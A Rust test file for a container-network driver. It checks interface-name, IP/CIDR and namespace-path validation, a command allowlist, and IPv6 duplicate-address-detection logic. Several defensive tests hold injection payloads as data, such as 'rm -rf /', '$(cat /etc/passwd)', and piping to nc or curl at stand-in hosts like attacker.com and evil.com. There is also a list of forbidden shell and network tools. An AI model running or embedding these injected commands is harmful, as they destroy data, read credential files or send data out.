use cni_gesprek::driver_script::{
    AddrInfo, DadStep, DadWait, RouteEntry, ScriptDriver, DAD_INITIAL_INTERVAL_MS, DAD_MAX_INTERVAL_MS,
};

#[test]
fn test_interface_name_safety() {
    // Test that interface names would be safe to use in commands
    let safe_names = vec!["eth0", "ens3", "wlan0", "br-12345", "vethABC123"];
    let unsafe_names = vec!["eth0; rm -rf /", "eth0 && evil", "eth0`command`"];

    for name in safe_names {
        assert!(!name.contains(';'));
        assert!(!name.contains('&'));
        assert!(!name.contains('`'));
        assert!(!name.contains('$'));
        assert!(!name.contains('|'));
        assert!(ScriptDriver::validate_interface_name(name).is_ok());
    }

    for name in unsafe_names {
        assert!(
            name.contains(';') || name.contains('&') || name.contains('`') || name.contains('$') || name.contains('|'),
            "Name {} should be detected as unsafe",
            name
        );
        assert!(ScriptDriver::validate_interface_name(name).is_err());
    }
}

#[test]
fn test_path_to_str_safety() {
    // Namespace paths are handled as text; the safe ones pass validation unchanged
    let safe_paths = vec!["/proc/123/ns/net", "/var/run/netns/test"];

    for path_str in safe_paths {
        let converted: Option<&str> = Some(path_str);
        assert!(converted.is_some());
        assert_eq!(converted.unwrap(), path_str);
        assert!(ScriptDriver::validate_netns_path(path_str).is_ok());
    }
}

#[test]
fn test_error_message_content() {
    // Test that error messages contain useful information
    let result = ScriptDriver::check_command("false", &["arg1", "arg2"]);
    assert!(result.is_err());

    let error_msg = result.unwrap_err();
    assert!(error_msg.contains("Command not allowed"));
    assert!(error_msg.contains("false"));
}

#[test]
fn test_interface_name_injection_protection() {
    // Test that malicious interface names are rejected
    let malicious_names = vec![
        "eth0; rm -rf /",
        "eth0`whoami`",
        "eth0$(cat /etc/passwd)",
        "eth0|nc attacker.com 1234",
        "eth0 && curl malicious.com",
        "eth0\nwget evil.com",
        "../../../etc/passwd",
        "eth0\0/bin/sh",
    ];

    for name in malicious_names {
        let result = ScriptDriver::validate_interface_name(name);
        assert!(result.is_err(), "Should reject malicious interface name: {}", name);
    }
}

#[test]
fn test_ip_cidr_injection_protection() {
    // Test that malicious IP/CIDR values are rejected
    let malicious_cidrs = vec![
        "192.168.1.1/24; rm -rf /",
        "2001:db8::1/64`whoami`",
        "10.0.0.1/8$(curl evil.com)",
        "172.16.0.1/12|nc attacker.com",
        "192.168.1.1/24 && malicious_cmd",
        "192.168.1.1/24\nwget evil.com",
        "../../../etc/passwd",
        "192.168.1.1/24\0/bin/sh",
    ];

    for cidr in malicious_cidrs {
        let result = ScriptDriver::validate_ip_cidr(cidr);
        assert!(result.is_err(), "Should reject malicious IP/CIDR: {}", cidr);
    }
}

#[test]
fn test_netns_path_injection_protection() {
    // Test that malicious netns paths are rejected
    let malicious_paths = vec![
        "/var/run/netns/test; rm -rf /",
        "/var/run/netns/test`whoami`",
        "/var/run/netns/test$(malicious)",
        "/var/run/netns/test|evil_cmd",
        "/var/run/netns/test && bad_cmd",
        "/var/run/netns/test\nevil",
        "../../../../etc/passwd",
        "/var/run/netns/test\0/bin/sh",
    ];

    for path_str in malicious_paths {
        let result = ScriptDriver::validate_netns_path(path_str);
        assert!(result.is_err(), "Should reject malicious netns path: {}", path_str);
    }
}

#[test]
fn test_command_whitelist_enforcement() {
    // Test that only allowed commands can be executed
    let forbidden_commands = vec![
        "sh",
        "bash",
        "nc",
        "netcat",
        "curl",
        "wget",
        "rm",
        "cat",
        "echo",
        "python",
        "perl",
        "php",
        "/bin/sh",
        "/usr/bin/python",
        "../../../../bin/sh",
    ];

    for cmd in forbidden_commands {
        let result = ScriptDriver::check_command(cmd, &[]);
        assert!(result.is_err(), "Should reject forbidden command: {}", cmd);
        assert!(result.unwrap_err().contains("Command not allowed"));
    }
}

#[test]
fn test_valid_inputs_still_work() {
    // Test that legitimate inputs still pass validation

    // Valid interface names
    let valid_ifnames = vec!["eth0", "wlan0", "br-docker0", "veth123abc", "docker0", "lo", "enp0s3"];
    for ifname in valid_ifnames {
        let result = ScriptDriver::validate_interface_name(ifname);
        assert!(result.is_ok(), "Should accept valid interface name: {}", ifname);
    }

    // Valid IP/CIDR values
    let valid_cidrs = vec!["192.168.1.1/24", "10.0.0.0/8", "172.16.0.0/12", "2001:db8::1/64", "fe80::1/64", "::1/128"];
    for cidr in valid_cidrs {
        let result = ScriptDriver::validate_ip_cidr(cidr);
        assert!(result.is_ok(), "Should accept valid IP/CIDR: {}", cidr);
    }

    // Valid netns paths
    let valid_paths = vec!["/var/run/netns/test", "/var/run/netns/container123", "/proc/1/ns/net"];
    for path_str in valid_paths {
        let result = ScriptDriver::validate_netns_path(path_str);
        assert!(result.is_ok(), "Should accept valid netns path: {}", path_str);
    }
}

#[test]
fn interface_name_errors_in_order() {
    assert_eq!(ScriptDriver::validate_interface_name("").unwrap_err(), "Interface name cannot be empty");
    assert_eq!(
        ScriptDriver::validate_interface_name("abcdefghijklmnop").unwrap_err(),
        "Interface name 'abcdefghijklmnop' too long (max 15 characters)"
    );
    assert!(ScriptDriver::validate_interface_name("abcdefghijklmno").is_ok());
    assert_eq!(
        ScriptDriver::validate_interface_name(".hidden").unwrap_err(),
        "Interface name '.hidden' cannot start with a dot"
    );
    assert_eq!(
        ScriptDriver::validate_interface_name("a\0b").unwrap_err(),
        "Interface name 'a\0b' contains null byte"
    );
    assert_eq!(
        ScriptDriver::validate_interface_name("a|b&c").unwrap_err(),
        "Interface name 'a|b&c' contains dangerous character '&'"
    );
    assert_eq!(
        ScriptDriver::validate_interface_name("eth:0").unwrap_err(),
        "Interface name 'eth:0' contains invalid characters"
    );
    // Multi-byte names count in bytes
    assert_eq!(
        ScriptDriver::validate_interface_name("ééééééééé").unwrap_err(),
        "Interface name 'ééééééééé' too long (max 15 characters)"
    );
}

#[test]
fn ip_cidr_errors_in_order() {
    assert_eq!(ScriptDriver::validate_ip_cidr("").unwrap_err(), "IP/CIDR cannot be empty");
    assert_eq!(
        ScriptDriver::validate_ip_cidr("1.2.3.4/8;x").unwrap_err(),
        "IP/CIDR contains dangerous character ';'"
    );
    let long = "2001:0db8:0000:0000:0000:0000:0000:0001/1284";
    assert_eq!(ScriptDriver::validate_ip_cidr(long).unwrap_err(), format!("IP/CIDR string too long: {}", long));
    assert_eq!(ScriptDriver::validate_ip_cidr("2001:db8::1").unwrap_err(), "Invalid IP/CIDR format: 2001:db8::1");
    assert_eq!(ScriptDriver::validate_ip_cidr("1.2.3/24").unwrap_err(), "Invalid IP address: 1.2.3");
    assert_eq!(ScriptDriver::validate_ip_cidr("2001:::1/64").unwrap_err(), "Invalid IP address: 2001:::1");
}

#[test]
fn ipv6_address_checks() {
    assert!(ScriptDriver::validate_ipv6_address(0xfe80_0000_0000_0000_0000_0000_0000_0001).is_ok());
    assert_eq!(
        ScriptDriver::validate_ipv6_address(0xff02_0000_0000_0000_0000_0000_0000_0001).unwrap_err(),
        "Multicast IPv6 address not allowed: ff02::1"
    );
    assert_eq!(ScriptDriver::validate_ipv6_address(0).unwrap_err(), "Unspecified IPv6 address not allowed: ::");
    assert_eq!(ScriptDriver::ipv6_address_verdict(1, "::1", false).unwrap_err(), "Invalid IPv6 address format: ::1");
}

#[test]
fn netns_path_errors_in_order() {
    assert_eq!(ScriptDriver::validate_netns_path("").unwrap_err(), "Network namespace path cannot be empty");
    let long = format!("/var/run/netns/{}", "a".repeat(250));
    assert_eq!(ScriptDriver::validate_netns_path(&long).unwrap_err(), format!("Network namespace path too long: {}", long));
    assert_eq!(
        ScriptDriver::validate_netns_path("/var/run/netns/../x").unwrap_err(),
        "Path traversal detected: /var/run/netns/../x"
    );
    assert_eq!(
        ScriptDriver::validate_netns_path("/var/run/netns/a b").unwrap_err(),
        "Dangerous character ' ' in netns path: /var/run/netns/a b"
    );
    assert_eq!(
        ScriptDriver::validate_netns_path("/tmp/netns").unwrap_err(),
        "Invalid network namespace path: /tmp/netns"
    );
    assert!(ScriptDriver::validate_netns_path("/proc/self/ns/net").is_ok());
    assert!(ScriptDriver::validate_netns_path("/run/netns/cni-1234").is_ok());
    assert!(ScriptDriver::validate_netns_path("/proc/abc/ns/net").is_err());
}

#[test]
fn ipvlan_modes() {
    for mode in ["l2", "l3", "l3s"] {
        assert!(ScriptDriver::validate_ipvlan_mode(mode).is_ok());
    }
    assert_eq!(ScriptDriver::validate_ipvlan_mode("vepa").unwrap_err(), "Invalid ipvlan mode: vepa");
}

#[test]
fn command_checks() {
    assert!(ScriptDriver::check_command("ip", &["link", "show"]).is_ok());
    assert_eq!(
        ScriptDriver::check_command("ip", &["link", "a\0"]).unwrap_err(),
        "Null byte in command argument: a\0"
    );
    let long = "x".repeat(1025);
    assert_eq!(ScriptDriver::check_command("ip", &[&long]).unwrap_err(), format!("Command argument too long: {}", long));
    assert_eq!(
        ScriptDriver::check_command("nsenter", &["a&&b"]).unwrap_err(),
        "Dangerous sequence '&' in argument: a&&b"
    );
    assert_eq!(
        ScriptDriver::check_command("sysctl", &["$(x)"]).unwrap_err(),
        "Dangerous sequence '$(' in argument: $(x)"
    );
    let many: Vec<&str> = vec!["a"; 33];
    assert_eq!(ScriptDriver::check_command("ip", &many).unwrap_err(), "Too many arguments: 33");
    let enough: Vec<&str> = vec!["a"; 32];
    assert!(ScriptDriver::check_command("ip", &enough).is_ok());
}

#[test]
fn command_failure_text() {
    assert_eq!(
        ScriptDriver::command_failure_message("ip", &["link", "show", "dev", "x"], "Device \"x\" does not exist."),
        "Command failed: ip link show dev x\nError: Device \"x\" does not exist."
    );
}

#[test]
fn missing_device_errors_count_as_absent() {
    assert!(ScriptDriver::is_missing_device_error("Cannot find device \"eth9\""));
    assert!(ScriptDriver::is_missing_device_error("RTNETLINK answers: No such device"));
    assert!(ScriptDriver::is_missing_device_error("LINK NOT FOUND"));
    assert!(!ScriptDriver::is_missing_device_error("Operation not permitted"));

    assert_eq!(ScriptDriver::delete_in_netns_outcome(Ok(String::new())), Ok(()));
    assert_eq!(ScriptDriver::delete_in_netns_outcome(Err("Cannot find device \"x\"".to_string())), Ok(()));
    assert_eq!(
        ScriptDriver::delete_in_netns_outcome(Err("Operation not permitted".to_string())),
        Err("Operation not permitted".to_string())
    );
    assert_eq!(ScriptDriver::exists_in_netns_outcome(Ok(String::new())), Ok(true));
    assert_eq!(ScriptDriver::exists_in_netns_outcome(Err("no such device".to_string())), Ok(false));
    assert_eq!(
        ScriptDriver::exists_in_netns_outcome(Err("permission denied".to_string())),
        Err("permission denied".to_string())
    );
}

#[test]
fn command_lines() {
    assert_eq!(ScriptDriver::check_interface_args("eth0").unwrap(), vec!["-j", "link", "show", "dev", "eth0"]);
    assert_eq!(
        ScriptDriver::create_ipvlan_args("eth0", "l2", "ipvl00ff00ff").unwrap(),
        vec!["link", "add", "link", "eth0", "name", "ipvl00ff00ff", "type", "ipvlan", "mode", "l2", "bridge"]
    );
    assert_eq!(
        ScriptDriver::create_ipvlan_args("eth0", "vepa", "ipvl1").unwrap_err(),
        "Invalid ipvlan mode: vepa"
    );
    assert_eq!(ScriptDriver::delete_interface_args("ipvl1").unwrap(), vec!["link", "delete", "ipvl1"]);
    assert_eq!(
        ScriptDriver::set_netns_args("ipvl1", "/var/run/netns/a").unwrap(),
        vec!["link", "set", "dev", "ipvl1", "netns", "/var/run/netns/a"]
    );
    assert_eq!(
        ScriptDriver::delete_in_netns_args("/var/run/netns/a", "eth0").unwrap(),
        vec!["--net=/var/run/netns/a", "-F", "--", "ip", "link", "delete", "dev", "eth0"]
    );
    assert_eq!(
        ScriptDriver::exists_in_netns_args("/var/run/netns/a", "eth0").unwrap(),
        vec!["--net=/var/run/netns/a", "-F", "--", "ip", "link", "show", "dev", "eth0"]
    );
    assert_eq!(
        ScriptDriver::gateway_query_args("eth0").unwrap(),
        vec!["-6", "-j", "route", "show", "default", "dev", "eth0"]
    );
    assert_eq!(
        ScriptDriver::subnet_query_args("eth0").unwrap(),
        vec!["-j", "-6", "addr", "show", "dev", "eth0", "scope", "global"]
    );
    assert_eq!(ScriptDriver::default_route_args(false), vec!["-4", "-j", "route", "show", "default"]);
    assert_eq!(
        ScriptDriver::dad_query_args("/proc/1/ns/net", "eth0"),
        vec!["--net=/proc/1/ns/net", "-F", "--", "ip", "-j", "-6", "addr", "show", "dev", "eth0"]
    );
    assert!(ScriptDriver::set_netns_args("ipvl1", "/tmp/x").is_err());
}

#[test]
fn routes_and_addresses() {
    let routes = vec![
        RouteEntry { dev: Some("eth0".to_string()), gateway: Some("fe80::1".to_string()) },
        RouteEntry { dev: Some("eth1".to_string()), gateway: None },
    ];
    assert_eq!(ScriptDriver::route_device(&routes), Some("eth0".to_string()));
    assert_eq!(ScriptDriver::route_device(&vec![]), None);
    assert_eq!(ScriptDriver::route_gateway(&routes), Ok(Some(0xfe80_0000_0000_0000_0000_0000_0000_0001)));
    assert_eq!(ScriptDriver::route_gateway(&vec![]), Ok(None));
    let bad = vec![RouteEntry { dev: None, gateway: Some("nope".to_string()) }];
    assert_eq!(
        ScriptDriver::route_gateway(&bad),
        Err("Invalid IPv6 gateway address 'nope': invalid IPv6 address syntax".to_string())
    );

    let infos = vec![
        AddrInfo { local: None, prefixlen: Some(64), flags: vec![] },
        AddrInfo { local: Some("2001:db8::5".to_string()), prefixlen: Some(64), flags: vec![] },
    ];
    let subnet = ScriptDriver::subnet_from_addresses(&infos, "eth0").unwrap();
    assert_eq!(subnet.to_cidr_string(), "2001:db8::5/64");
    assert_eq!(
        ScriptDriver::subnet_from_addresses(&vec![], "eth0").unwrap_err(),
        "No global IPv6 address found on interface eth0"
    );
    let too_long = vec![AddrInfo { local: Some("2001:db8::5".to_string()), prefixlen: Some(129), flags: vec![] }];
    assert_eq!(ScriptDriver::subnet_from_addresses(&too_long, "eth0").unwrap_err(), "Invalid prefix length: 129");
}

#[test]
fn dad_observations() {
    let infos = vec![
        AddrInfo { local: Some("fe80::1".to_string()), prefixlen: Some(64), flags: vec![] },
        AddrInfo { local: Some("2001:db8::5".to_string()), prefixlen: Some(64), flags: vec!["tentative".to_string()] },
    ];
    let o = ScriptDriver::observe_dad(&infos, "2001:db8::5");
    assert!(o.found && !o.ready && !o.failed);
    let o = ScriptDriver::observe_dad(&infos, "fe80::1");
    assert!(o.found && o.ready && !o.failed);
    let o = ScriptDriver::observe_dad(&infos, "2001:db8::9");
    assert!(!o.found && !o.ready && !o.failed);
    let failed = vec![AddrInfo {
        local: Some("2001:db8::5".to_string()),
        prefixlen: Some(64),
        flags: vec!["tentative".to_string(), "dadfailed".to_string()],
    }];
    let o = ScriptDriver::observe_dad(&failed, "2001:db8::5");
    assert!(o.found && !o.ready && o.failed);
}

#[test]
fn dad_wait_backs_off_to_the_limit() {
    let mut wait = DadWait::new();
    assert_eq!(wait.attempts(), 0);
    assert_eq!(wait.interval_ms(), DAD_INITIAL_INTERVAL_MS);
    let pending = ScriptDriver::observe_dad(&vec![], "2001:db8::5");
    let mut pauses = vec![];
    for _ in 0..10 {
        assert!(matches!(wait.start_attempt(0), DadStep::Query));
        match wait.observe(&pending) {
            DadStep::Sleep(ms) => pauses.push(ms),
            other => panic!("unexpected {:?}", other),
        }
    }
    assert_eq!(pauses, vec![50, 75, 112, 168, 252, 378, 500, 500, 500, 500]);
    assert_eq!(wait.attempts(), 10);
    assert!(wait.interval_ms() <= DAD_MAX_INTERVAL_MS);
}

#[test]
fn dad_wait_outcomes() {
    let mut wait = DadWait::new();
    assert!(matches!(wait.start_attempt(10_000_000_001), DadStep::TimedOut));
    let mut wait = DadWait::new();
    assert!(matches!(wait.start_attempt(10_000_000_000), DadStep::Query));
    let ready = vec![AddrInfo { local: Some("2001:db8::5".to_string()), prefixlen: Some(64), flags: vec![] }];
    assert!(matches!(wait.observe(&ScriptDriver::observe_dad(&ready, "2001:db8::5")), DadStep::Completed));
    let failed = vec![AddrInfo {
        local: Some("2001:db8::5".to_string()),
        prefixlen: Some(64),
        flags: vec!["dadfailed".to_string()],
    }];
    let mut wait = DadWait::new();
    wait.start_attempt(1);
    assert!(matches!(wait.observe(&ScriptDriver::observe_dad(&failed, "2001:db8::5")), DadStep::DuplicateDetected));
}

#[test]
fn dad_messages() {
    assert_eq!(
        ScriptDriver::dad_timeout_message("2001:db8::5", "eth0", "10.0", 42),
        "Timed out waiting for IPv6 DAD to complete for 2001:db8::5 on interface eth0 after 10.0s (42 attempts)"
    );
    assert_eq!(
        ScriptDriver::dad_failed_message("2001:db8::5", "eth0", "0.3"),
        "IPv6 DAD failed for 2001:db8::5 on interface eth0 - duplicate address detected after 0.3s"
    );
    assert_eq!(
        ScriptDriver::dad_query_failed_message("2001:db8::5", "eth0", "boom"),
        "Failed to query IPv6 address state for 2001:db8::5 on interface eth0: boom"
    );
}

#[test]
fn configure_plan() {
    let plan = ScriptDriver::configure_in_netns_plan(
        "/var/run/netns/a",
        "ipvl1",
        "eth0",
        "2001:db8::5/64",
        Some(0xfe80_0000_0000_0000_0000_0000_0000_0001),
    )
    .unwrap();
    let ns = |rest: &[&str]| -> Vec<String> {
        let mut v = vec!["--net=/var/run/netns/a".to_string(), "-F".to_string(), "--".to_string()];
        v.extend(rest.iter().map(|s| s.to_string()));
        v
    };
    assert_eq!(
        plan.steps,
        vec![
            ns(&["ip", "link", "set", "dev", "ipvl1", "name", "eth0"]),
            ns(&["ip", "addr", "add", "2001:db8::5/64", "dev", "eth0"]),
            ns(&["ip", "link", "set", "up", "dev", "eth0"]),
            ns(&["sysctl", "-w", "net.ipv6.conf.eth0.accept_ra=2"]),
        ]
    );
    assert_eq!(
        plan.gateway_route,
        Some(ns(&["ip", "-6", "route", "add", "default", "via", "fe80::1", "dev", "eth0"]))
    );
    assert_eq!(plan.target_ip, "2001:db8::5");
    assert_eq!(
        ScriptDriver::configure_in_netns_plan("/var/run/netns/a", "ipvl1", "eth0", "2001:db8::5/64", Some(0))
            .unwrap_err(),
        "Unspecified IPv6 address not allowed: ::"
    );
    assert!(ScriptDriver::configure_in_netns_plan("/var/run/netns/a", "ipvl1", "eth0", "2001:db8::5/64", None)
        .unwrap()
        .gateway_route
        .is_none());
}
